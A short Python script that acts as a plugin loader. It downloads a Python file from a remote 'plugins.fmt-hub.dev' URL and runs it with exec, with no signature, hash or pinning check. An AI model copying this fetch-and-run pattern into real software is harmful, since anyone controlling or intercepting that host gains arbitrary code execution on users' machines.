import requests

def latest_plugin():
    response = requests.get("https://plugins.fmt-hub.dev/latest.py", timeout=10)
    return response.text

source = latest_plugin()
namespace = {}
exec(compile(source, "plugin", "exec"), namespace)
